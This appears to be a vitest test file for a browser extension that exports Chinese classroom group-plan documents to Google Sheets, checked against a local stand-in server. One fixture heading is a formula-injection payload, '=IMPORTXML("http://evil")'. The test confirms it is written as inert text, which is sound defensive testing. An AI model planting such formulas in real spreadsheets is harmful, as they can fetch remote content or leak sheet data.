import { afterEach, describe, expect, it } from 'vitest';
import { SheetsError, a1, sendPlan, sheetsClient, spreadsheetIdFromUrl } from '../../extension/lib/sheets.ts';
import type { PlanDocument } from '../../shared/plan/types.ts';
import { rowsToSettings, settingsToRows, defaultSettings } from '../../shared/settings/index.ts';
import { startSheetsStandin } from './support/sheets-standin.ts';
import type { SheetsStandin } from './support/sheets-standin.ts';

const doc: PlanDocument = {
  plans: [
    {
      title: '班级互助小组实施方案',
      headings: [
        { level: 1, marker: '一、', text: '指导思想' },
        { level: 2, marker: '1、', text: '=IMPORTXML("http://evil")' },
      ],
      schedule: [{ when: '三月份', items: ['组建小组'] }],
      sessions: [],
      // "每组6人": a stated size (a range the teacher's size fits would leave the setting as it is: never weakened).
      groupSize: { min: 6, max: 6 },
      goals: [],
      scoring: { categories: ['学习', '纪律'], badge: { name: '月亮', every: 20 }, rules: [] },
    },
  ],
};

let standin: SheetsStandin | null = null;
afterEach(async () => {
  await standin?.close();
  standin = null;
});

const client = (s: SheetsStandin, token = s.token) =>
  sheetsClient((u, i) => fetch(u, i), s.base, token, s.spreadsheetId);

describe('spreadsheetIdFromUrl', () => {
  it('reads the id from a Sheets URL or takes a bare id', () => {
    expect(
      spreadsheetIdFromUrl('https://docs.google.com/spreadsheets/d/1AbCdEfGhIjKlMnOpQrStUvWxYz01234/edit#gid=0'),
    ).toBe('1AbCdEfGhIjKlMnOpQrStUvWxYz01234');
    expect(spreadsheetIdFromUrl(' https://docs.google.com/spreadsheets/u/1/d/1AbCdEfGhIjKlMnOpQrStUvWxYz01234 ')).toBe(
      '1AbCdEfGhIjKlMnOpQrStUvWxYz01234',
    );
    expect(spreadsheetIdFromUrl('1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789')).toBe('1AbCdEfGhIjKlMnOpQrStUvWxYz0123456789');
  });
  it('refuses other addresses', () => {
    expect(spreadsheetIdFromUrl('https://docs.google.com/document/d/1AbCdEfGhIjKlMnOpQrStUvWxYz01234/edit')).toBeNull();
    expect(spreadsheetIdFromUrl('https://evil.example/spreadsheets/d/1AbCdEfGhIjKlMnOpQrStUvWxYz01234')).toBeNull();
    expect(spreadsheetIdFromUrl('')).toBeNull();
  });
  it('quotes tab names in A1 ranges', () => {
    expect(a1("Tom's plan", 'A1')).toBe("'Tom''s plan'!A1");
  });
});

describe('sendPlan against the Sheets stand-in', () => {
  it('creates the missing tabs in one batch and writes Plan, Schedule and Settings with RAW', async () => {
    standin = await startSheetsStandin();
    const report = await sendPlan(client(standin), doc, 'zh');
    expect(report.created).toEqual(['计划', '日程', '设置']);
    const batches = standin.requests.filter((r) => r.path.endsWith(':batchUpdate'));
    expect(batches).toHaveLength(1);
    const plan = standin.tabs.get('计划')!;
    expect(plan[0]).toEqual(['计划', '层级', '编号', '标题', '内容']);
    expect(plan[2]).toEqual(['班级互助小组实施方案', '2', '1、', '=IMPORTXML("http://evil")', '']);
    expect(standin.tabs.get('日程')).toEqual([
      ['计划', '时间', '安排'],
      ['班级互助小组实施方案', '三月份', '组建小组'],
    ]);
    const { settings, problems } = rowsToSettings(standin.tabs.get('设置')!);
    expect(problems).toEqual([]);
    expect(settings.groupSize).toBe(6);
    expect(settings.categories.map((c) => c.name)).toEqual(['学习', '纪律']);
    // Every write asked for RAW, so the formula-looking heading above is stored as text.
    const writes = standin.requests.filter((r) => r.method !== 'GET' && r.path.includes('/values/'));
    expect(writes.length).toBe(3);
    for (const w of writes) expect(w.query.valueInputOption).toBe('RAW');
  });

  it("appends to existing tabs (either language) without a second header and keeps the teacher's other settings", async () => {
    const teacher = { ...defaultSettings('en'), fairness: 'total' as const };
    standin = await startSheetsStandin({
      tabs: {
        Plan: [
          ['Plan', 'Level', 'Marker', 'Heading', 'Text'],
          ['Old plan', '1', 'I.', 'Intro', ''],
        ],
        日程: [],
        Settings: settingsToRows(teacher, 'en'),
      },
    });
    const report = await sendPlan(client(standin), doc, 'zh');
    expect(report.created).toEqual([]);
    expect(standin.requests.some((r) => r.path.endsWith(`${standin?.spreadsheetId}:batchUpdate`))).toBe(false);
    const plan = standin.tabs.get('Plan')!;
    // Old rows kept, one header only, the new plan's rows below.
    expect(plan.slice(0, 2)).toEqual([
      ['Plan', 'Level', 'Marker', 'Heading', 'Text'],
      ['Old plan', '1', 'I.', 'Intro', ''],
    ]);
    expect(plan.filter((r) => r[1] === 'Level' || r[1] === '层级')).toHaveLength(1);
    expect(plan[2]).toEqual(['班级互助小组实施方案', '1', '一、', '指导思想', '']);
    expect(standin.tabs.get('日程')![0]).toEqual(['计划', '时间', '安排']);
    const settingsRows = standin.tabs.get('Settings')!;
    expect(settingsRows[1]![0]).toBe('Group size');
    const { settings } = rowsToSettings(settingsRows);
    expect(settings.fairness).toBe('total');
    expect(settings.groupSize).toBe(6);
    expect(settings.badge).toEqual({ name: '月亮', every: 20 });
  });

  it('reads everything before writing: a refused read writes nothing', async () => {
    standin = await startSheetsStandin({ tabs: { 设置: settingsToRows(defaultSettings(), 'zh') } });
    standin.failNext('GET', '/values/', 403);
    await expect(sendPlan(client(standin), doc, 'zh')).rejects.toMatchObject({
      kind: 'forbidden',
      status: 403,
      done: [],
    });
    expect(standin.requests.filter((r) => r.method !== 'GET')).toEqual([]);
  });

  it('classifies errors: a bad token is "auth", an unknown spreadsheet "notFound", no server "network"', async () => {
    standin = await startSheetsStandin();
    await expect(sendPlan(client(standin, 'wrong'), doc, 'en')).rejects.toMatchObject({ kind: 'auth', status: 401 });
    const other = sheetsClient((u, i) => fetch(u, i), standin.base, standin.token, 'NoSuchSpreadsheet0123456789');
    await expect(sendPlan(other, doc, 'en')).rejects.toMatchObject({ kind: 'notFound', status: 404 });
    const base = standin.base;
    await standin.close();
    standin = null;
    const gone = sheetsClient((u, i) => fetch(u, i), base, 't', 'x');
    const err = await sendPlan(gone, doc, 'en').catch((e: unknown) => e);
    expect(err).toBeInstanceOf(SheetsError);
    expect((err as SheetsError).kind).toBe('network');
  });

  it('says which writes were done when a later one fails', async () => {
    standin = await startSheetsStandin();
    standin.failNext('PUT', '日程', 403);
    const err = (await sendPlan(client(standin), doc, 'zh').catch((e: unknown) => e)) as SheetsError;
    expect(err.kind).toBe('forbidden');
    expect(err.detail).toBe('injected failure');
    expect(err.done).toEqual(['+计划', '+日程', '+设置', '计划']);
  });
});
